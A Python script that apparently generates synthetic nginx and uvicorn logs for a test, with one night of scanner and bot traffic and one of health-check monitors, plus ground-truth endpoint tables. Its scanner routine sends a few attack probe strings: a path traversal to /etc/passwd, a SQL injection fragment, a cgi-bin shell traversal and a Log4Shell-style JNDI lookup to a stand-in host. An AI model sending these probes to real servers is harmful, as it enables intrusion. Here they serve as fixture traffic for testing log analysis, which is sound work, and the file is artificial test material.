"""Two hosts: one that only scanners visit, one that only monitors visit."""
import sys; sys.path.insert(0, str(__import__("pathlib").Path(__file__).resolve().parent.parent))
from common import *
own_network()
HERE = Path(__file__).resolve().parent
S, HOST = ("203.0.113.1", 19480), "api.example.org"
UVICORN = re.compile(r'^(?P<head>INFO:\s+)(?P<client>\S+) - "(?P<method>[A-Z]+) (?P<target>\S+) HTTP/1\.\d" (?P<status>\d{3})')

def night(name, fill, stack, lines):
    work = fresh(HERE / ".work" / name); (work / "tmp").mkdir(); os.chmod(work / "tmp", 0o777); os.chmod(work, 0o777)
    sim = Sim(20260706 + len(name), "UTC"); servers = Servers()
    app = Container(servers, [sys.executable, "-m", "uvicorn", "--app-dir", HERE, "--port", "19481", "--no-use-colors", "api:app"], 19481); app.start()
    servers.start(["nginx", "-p", work, "-c", HERE / "nginx.conf"], 19480, "203.0.113.1")
    fill(sim); sim.run(); time.sleep(.5); servers.stop_all(); time.sleep(.2)
    out = stamp_combined((work / "access.log").read_text(errors="surrogateescape").splitlines(), sim, "nginx")
    size = write_rotated(NIGHTS / name / "nginx-combined", "access.log", out, sim.zone, "dateext"); print(name, "nginx", len(out))
    stamp, out = Stamp(sim, "app"), []
    for real, stream, line in app.lines:
        m = UVICORN.match(line)
        e = stamp.entry(m["method"], m["target"], int(m["status"]), real) if m else None
        t = e["sim"] + (e["end"] - e["real"]) if e else stamp.moment(real)
        out.append((t, docker(t, stream, line)))
    out.sort(key=lambda p: p[0]); print(name, "uvicorn", len(out), "missed", stamp.missed)
    size += write_rotated(NIGHTS / name / "uvicorn-docker", "a1c9e0-json.log", out, sim.zone, "docker"); print("bytes", size)
    write_truth(name, {"night": name, "stack": stack, "logs": {"nginx-combined": ["nginx-combined"], "uvicorn-docker": ["uvicorn-docker"]}, "gaps": [], "neighbours": neighbours(lines)})

WORDS = "admin users orders config backup v1 v2 internal debug test login token keys search export upload files status env prod stage".split()
def scanners(sim):
    R = sim.random
    agents = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.5.0", CHROME, CHROME_WIN, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Nuclei - Open-source project", "masscan/1.3", "-"]
    def who(): return Browser(sim, R.choice(["203.0.113.%d", "198.51.100.%d", "192.0.2.%d"]) % R.randint(5, 250), R.choice(agents), S, HOST)
    def guess(c, n):                                              # a word list, sometimes with a made-up referer from the host itself
        for _ in range(n):
            path = "/" + "/".join(R.sample(WORDS, R.randint(1, 3)))
            c.request(R.choice(["GET"] * 8 + ["POST", "HEAD"]), path, referer=f"https://{HOST}/admin" if R.random() < .2 else None); yield R.uniform(.05, 2)
    def burst(c, path, n):                                       # one address, one path, again and again
        for _ in range(n): c.send("POST", path, {"user": "x"}); yield R.uniform(.2, 1)
    def junk(c):
        for t in ("/%2e%2e/%2e%2e/etc/passwd", "/?id=1%27%20OR%201=1", "/api/orders/%00", "/" + "A" * 900, "/cgi-bin/%%32%65%%32%65/bin/sh", "http://192.0.2.9/probe", "/?x=${jndi:ldap://192.0.2.9/a}"): c.request("GET", t); yield 1
        raw_line(sim, c.source, S, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n"); yield 1
        raw_line(sim, c.source, S, b"\x00\x0e8\x1b\x9e\xf0\xff\n\n"); yield 1
    for i, d in office_days(sim, "2026-07-06", 8):
        at = lambda: sim.at(f"{d} {R.randint(0, 22):02}:{R.randint(0, 59):02}:{R.randint(0, 59):02}")
        for _ in range(8): sim.spawn(at(), scanner(who(), sim, n=R.randint(8, 26)))
        for _ in range(5): sim.spawn(at(), guess(who(), R.randint(10, 50)))
        sim.spawn(at(), burst(who(), R.choice(["/api/login", "/api/v1/auth", "/graphql"]), 25)); sim.spawn(at(), junk(who()))
        for _ in range(3): sim.spawn(at(), scanner(who(), sim, ["/api/orders", "/api/private", "/api/echo", "/health", "/favicon.ico", "/robots.txt"], n=5))
def monitors(sim):
    for i, d in office_days(sim, "2026-07-06", 8):
        end, at = sim.at(f"{d} 23:54"), lambda t: sim.at(f"{d} {t}")
        def m(address, agent, path, every, start, method="GET"): sim.spawn(at(start), monitor(Browser(sim, address, agent, S, HOST, keep=False, accept_gzip=False), sim, path, end, every, method))
        m("203.0.113.240", "kube-probe/1.30", "/health", 1800, "00:00:05"); m("203.0.113.240", "kube-probe/1.30", "/ready", 1800, "00:00:09")
        m("203.0.113.241", "Prometheus/2.53.0", "/metrics", 1500, "00:00:11")
        for k, a in enumerate(("198.51.100.11", "198.51.100.12", "192.0.2.13", "192.0.2.14")): m(a, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "/", 5400, f"00:0{k + 1}:00", "HEAD")   # always 404: no such page
        m("203.0.113.242", "Blackbox-Exporter/0.25.0", "/api/ping", 2400, "00:02:00"); m("203.0.113.242", "Blackbox-Exporter/0.25.0", "/api/orders", 3600, "00:02:30")
        m("203.0.113.243", "Uptime-Kuma/1.23.16", "/api/private", 3600, "00:03:00"); m("203.0.113.243", "Uptime-Kuma/1.23.16", "/api/v0/health", 3600, "00:03:30")
        m("203.0.113.244", "check_http/v2.3.3 (monitoring-plugins 2.3.3)", "/api/echo", 3600, "00:04:00", "POST"); m("203.0.113.245", "Datadog/Synthetics", "/api/orders", 3000, "00:04:40")
night("scanners-only", scanners, "FastAPI behind nginx 1.22; only scanners and bots visit", """
GET /{rest} | 1 39 | scanners: made-up paths, some with a made-up referer of the host itself | aside
POST /{rest} | 1 | scanners | aside
HEAD /{rest} | 1 8 | scanners | aside
GET /api/orders | 1 | always [], but only scanners ask | aside
GET /api/private | 1 28 | always 401, only scanners ask | aside
GET /api/echo | 1 8 | 405 to scanners' GET | aside
GET / | 1 38 | scanners | aside""")
night("healthchecks-only", monitors, "FastAPI behind nginx 1.22; only monitors visit", """
GET /health | 12 | kube-probe | aside
GET /ready | 12 33 | kube-probe; 503 now and then | aside
GET /metrics | 12 | Prometheus | aside
HEAD / | 8 12 | uptime robot: always 404, nobody's page | aside
GET /api/ping | 12 43 | always [], blackbox exporter | aside
GET /api/orders | 12 | always [], monitors only | aside
GET /api/private | 12 28 | always 401 to a monitor without a token | aside
GET /api/v0/health | 12 31 | always 404: a monitor that nobody updated | aside
POST /api/echo | 12 26 | constant answer to a monitor | aside""")
